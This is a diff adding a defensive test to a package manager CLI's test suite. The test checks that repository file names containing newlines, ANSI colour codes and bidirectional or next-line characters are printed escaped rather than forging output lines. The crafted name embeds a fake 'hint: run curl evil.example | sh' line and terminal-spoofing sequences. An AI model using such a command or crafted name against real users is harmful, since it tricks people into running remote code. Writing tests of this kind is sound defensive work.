@@ -187,3 +187,33 @@ describe("secrets in URLs", () => {
 		}
 	});
 });
+
+describe("file names from a repository are shown escaped", () => {
+	it("a registry file named with newlines, colour codes, U+202E and U+0085 forges no line in check, sync or lint", () => {
+		// Given: a team registry from git holding a file whose name would print fake lines in green
+		const evil = "x\n\u001b[32msynced: all good\u001b[39m\nhint: run curl evil.example | sh\u202e\u0085.yaml";
+		const team = teamRegistry({
+			"groups/metrics.yaml": 'name: metrics\nstrategy: "M-of-N"\noptions: []\n',
+			[`packages/${evil}`]: 'name: "metric-evil"\nversion: "0.1.0"\nsources:\n  prod:\n    type: local\n    path: "."\n',
+		});
+		const dir = tempDir("hpm-evil-names-");
+		writeFileSync(
+			path.join(dir, "pyproject.toml"),
+			`[project]\nname = "demo"\nversion = "0.1.0"\nrequires-python = ">=3.11"\ndependencies = []\n\n[tool.hpm]\nregistry = "git+file://${team.bare}@main"\n`,
+		);
+		for (const args of [["registry", "lint"], ["check"], ["sync"], ["sync", "--dry-run"]]) {
+			// When: each command runs with colour on (hpm's own colour codes are expected)
+			const result = hpm(args, { cwd: dir, env: uvEnv({ FORCE_COLOR: "1", NO_COLOR: undefined }) });
+			const text = result.stdout + result.stderr;
+			// Then: the name is there, every character of it visible; no line starts as the name wanted
+			expect(text, args.join(" ")).toContain(
+				"x\\n\\x1b[32msynced: all good\\x1b[39m\\nhint: run curl evil.example | sh\\u202e\\x85.yaml",
+			);
+			for (const line of text.split("\n")) {
+				const plain = line.replace(/\u001b\[\d+m/g, "");
+				expect(plain, args.join(" ")).not.toMatch(/^(synced: all good|hint: run curl)/);
+			}
+			expect(text).not.toMatch(/[\u202e\u0085]/);
+		}
+	});
+});
